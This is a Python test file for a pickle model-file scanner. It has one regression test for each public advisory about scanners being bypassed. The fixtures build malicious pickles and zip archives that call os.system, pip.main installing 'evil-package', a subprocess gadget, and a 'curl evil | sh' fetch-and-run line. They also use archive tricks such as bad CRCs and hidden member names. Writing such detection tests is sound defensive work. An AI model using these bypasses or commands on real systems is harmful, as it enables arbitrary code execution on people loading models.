"""One test per public scanner-bypass advisory bastion is built against (ids in the names)."""

from __future__ import annotations

from pathlib import Path

from bastion.core import Severity
from bastion.scan.engine import scan
from tests.conftest import inert_command
from tests.formats.pickle import asm
from tests.formats.pickle.helpers import globals_flagged, scan_bytes
from tests.formats.ziptricks import Member, build_zip


def _payload(marker_dir: Path) -> bytes:
    return asm.call("os", "system", inert_command(marker_dir), protocol=2)


def test_cve_2025_1716_pip_main_as_callable(tmp_path: Path) -> None:
    """CVE-2025-1716: ``pip.main`` (installs an attacker's package) called from a pickle."""
    data = asm.call("pip", "main", "install", "evil-package", protocol=2)
    result = scan_bytes(tmp_path, data)
    assert "pip.main" in globals_flagged(result)
    assert max(f.severity for f in result.findings) is Severity.CRITICAL


def test_cve_2025_10155_pickle_member_with_nonstandard_extension(
    tmp_path: Path, marker_dir: Path
) -> None:
    """CVE-2025-10155 / GHSA-769v-p64c-89pr: the pickle hides under another member name."""
    members = [
        Member("archive/data.pkl", asm.proto(2) + asm.NONE + asm.STOP),
        Member("archive/model.bin", _payload(marker_dir)),
        Member("archive/version", b"3\n"),
    ]
    path = tmp_path / "weights.ckpt2"
    path.write_bytes(build_zip(members))
    result = scan(path)
    assert any(f.properties.get("global") == "os.system" for f in result.findings)


def test_cve_2025_10156_zip_crc_mismatch(tmp_path: Path, marker_dir: Path) -> None:
    """CVE-2025-10156: a wrong CRC makes Python's zipfile raise; PyTorch still loads it."""
    members = [Member("archive/data.pkl", _payload(marker_dir), crc=0x12345678)]
    path = tmp_path / "model.pt"
    path.write_bytes(build_zip(members))
    rules = {f.rule_id for f in scan(path).findings}
    assert {"BST-PKL-001", "BST-ARC-005"} <= rules


def test_cve_2025_10157_submodule_of_a_dangerous_module(tmp_path: Path) -> None:
    """CVE-2025-10157: a denylist matching exact module names misses their submodules."""
    data = asm.call("asyncio.unix_events", "_UnixSubprocessTransport", "id", protocol=2)
    result = scan_bytes(tmp_path, data)
    assert max(f.severity for f in result.findings) is Severity.CRITICAL


def test_ghsa_w8jq_xcqf_f792_zip_flag_bits(tmp_path: Path, marker_dir: Path) -> None:
    """GHSA-w8jq-xcqf-f792: flag bits that crash picklescan are ignored by PyTorch."""
    members = [Member("archive/data.pkl", _payload(marker_dir), flags=0x1 | 0x40)]
    path = tmp_path / "model.pt"
    path.write_bytes(build_zip(members))
    assert "os.system" in {f.properties.get("global") for f in scan(path).findings}


def test_ghsa_655q_fx9r_782v_unlisted_gadget_is_still_flagged(tmp_path: Path) -> None:
    """GHSA-655q-fx9r-782v (and ModelScan #338): gadgets missing from denylists.

    A callable nobody has listed yet is still a blocking finding, because bastion only lets
    reviewed callables run.
    """
    data = asm.call("some_library.internal", "run_helper", "curl evil | sh", protocol=4)
    result = scan_bytes(tmp_path, data)
    assert max(f.severity for f in result.findings) >= Severity.HIGH


def test_modelscan_354_corrupt_member_before_payload(tmp_path: Path, marker_dir: Path) -> None:
    """ModelScan #354: an unreadable member placed first must not end the scan of the zip."""
    members = [
        Member("archive/aaa", b"\x00garbage", deflate=False, crc=1, flags=0x8),
        Member("archive/data.pkl", _payload(marker_dir)),
    ]
    path = tmp_path / "model.pt"
    path.write_bytes(build_zip(members))
    assert "os.system" in {f.properties.get("global") for f in scan(path).findings}
